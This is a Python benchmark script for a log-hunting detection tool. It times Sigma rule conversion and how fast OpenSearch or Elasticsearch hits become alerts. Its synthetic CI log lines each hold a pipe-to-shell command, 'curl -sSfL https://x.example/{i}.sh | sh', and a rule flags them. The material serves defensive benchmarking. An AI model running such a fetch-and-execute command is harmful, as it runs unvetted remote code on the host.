"""Retro-hunt benchmark: rule conversion and hits turned into alerts.

    python bench/hunt.py --json [--search-url http://127.0.0.1:9201] [--flavor opensearch] [--docs 100000]

Without ``--search-url`` a private OpenSearch node is started with ``devservices`` (and stopped at
the end). Figures:

* ``rules_converted_per_s`` (per target): the rule pack (``sigma-rules/``, its detection rules)
  read, parsed and converted to Lucene by pySigma's Elasticsearch / OpenSearch backend, best of
  three runs (``convert_plan``: what ``pipesentry hunt`` does before its first search);
* ``hunt_hits_per_s``: ``--docs`` CI log lines (one index, strings as ``keyword``), every one a
  hit of the bench rule (``message|contains: 'curl '``), hunted with scroll pages of
  ``hunt.page_size`` (1,000): hits read, turned into alerts (the engine's model) and handed to a
  sink that counts them, after a warm-up hunt on the same index.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from detectors.alert import Alert  # noqa: E402
from service.hunt.client import open_client  # noqa: E402
from service.hunt.hunt import HuntPlan, convert_plan, run_plan  # noqa: E402
from service.hunt.settings import HuntSettings  # noqa: E402
from service.hunt.timerange import TimeRange  # noqa: E402

INDEX = "bench-hunt-ci"
RULE = """
title: Bench curl in a build log
id: 6a0f3c52-1b7e-4d0a-9a53-0b6f2b6a1c11
author: bench
level: medium
logsource: {category: ci_job_log}
detection:
  sel:
    message|contains: 'curl '
  condition: sel
"""


def bench_convert(target: str) -> tuple[float, int, int]:
    best = 0.0
    queries = failures = 0
    for _ in range(3):
        conversion = convert_plan(HuntPlan(rules=(ROOT / "sigma-rules",), target=target))  # type: ignore[arg-type]
        best = max(best, conversion.rules_per_s)
        queries, failures = len(conversion.queries), len(conversion.failures)
    return best, queries, failures


def index_docs(url: str, flavor: str, n: int) -> None:
    import httpx

    with httpx.Client(base_url=url, timeout=120) as http:
        http.delete(f"/{INDEX}")
        http.put(f"/{INDEX}", json={"settings": {"number_of_replicas": 0, "refresh_interval": "-1"},
                                    "mappings": {"dynamic_templates": [{"s": {"match_mapping_type": "string",
                                                                               "mapping": {"type": "keyword"}}}]}})
        batch = 5000
        for start in range(0, n, batch):
            lines = []
            for i in range(start, min(n, start + batch)):
                lines.append(json.dumps({"index": {"_id": str(i)}}))
                lines.append(json.dumps({"@timestamp": "2026-11-24T10:00:00Z", "repository": f"acme/r{i % 50}",
                                         "job": "build", "message": f"$ curl -sSfL https://x.example/{i}.sh | sh"}))
            response = http.post(f"/{INDEX}/_bulk", content="\n".join(lines) + "\n",
                                 headers={"content-type": "application/x-ndjson"})
            response.raise_for_status()
            assert not response.json()["errors"]
        http.post(f"/{INDEX}/_refresh").raise_for_status()


async def bench_hits(url: str, flavor: str, rules: Path) -> tuple[float, int]:
    settings = HuntSettings(target=flavor, url=url)  # type: ignore[arg-type]
    plan = HuntPlan(rules=(rules,), target=flavor, index=INDEX, time_range=TimeRange())  # type: ignore[arg-type]
    conversion = convert_plan(plan)
    count = 0

    def sink(alerts: list[Alert]) -> None:
        nonlocal count
        count += len(alerts)

    client = open_client(settings, plan.target, url)
    try:
        started = time.perf_counter()
        report = await run_plan(client, conversion, plan, settings, sink)
        elapsed = time.perf_counter() - started
    finally:
        await client.close()
    assert count == report.hits
    return report.hits / elapsed, report.hits


async def main_async(args: argparse.Namespace) -> dict[str, Any]:
    result: dict[str, Any] = {}
    for target in ("elasticsearch", "opensearch"):
        rate, queries, failures = bench_convert(target)
        result[f"rules_converted_per_s_{target}"] = round(rate)
    result["rules_converted"], result["rules_not_converted"] = queries, failures
    node = None
    url, flavor = args.search_url, args.flavor
    if url is None:
        from devservices.search import SearchNode

        node = SearchNode.start(Path(tempfile.mkdtemp(prefix="bench-hunt-")))
        url, flavor = node.url, node.flavor
    try:
        index_docs(url, flavor, args.docs)
        with tempfile.TemporaryDirectory() as tmp:
            rules = Path(tmp) / "bench.yml"
            rules.write_text(RULE)
            await bench_hits(url, flavor, rules)  # warm-up: the node's caches, the client's connections
            rate, hits = await bench_hits(url, flavor, rules)
        result["hunt_hits_per_s"] = round(rate)
        result["hunt_hits"] = hits
        result["search_flavor"] = flavor
        return result
    finally:
        if node is not None:
            node.stop()


def main() -> None:
    parser = argparse.ArgumentParser(description=(__doc__ or "").split("\n")[0])
    parser.add_argument("--json", action="store_true", help="print one JSON object")
    parser.add_argument("--search-url", default=None, help="use a running node instead of starting one")
    parser.add_argument("--flavor", default="opensearch", choices=("opensearch", "elasticsearch"))
    parser.add_argument("--docs", type=int, default=100_000)
    args = parser.parse_args()
    result = asyncio.run(main_async(args))
    if args.json:
        print(json.dumps(result))
    else:
        for key, value in result.items():
            print(f"{key:>34}: {value}")


if __name__ == "__main__":
    main()
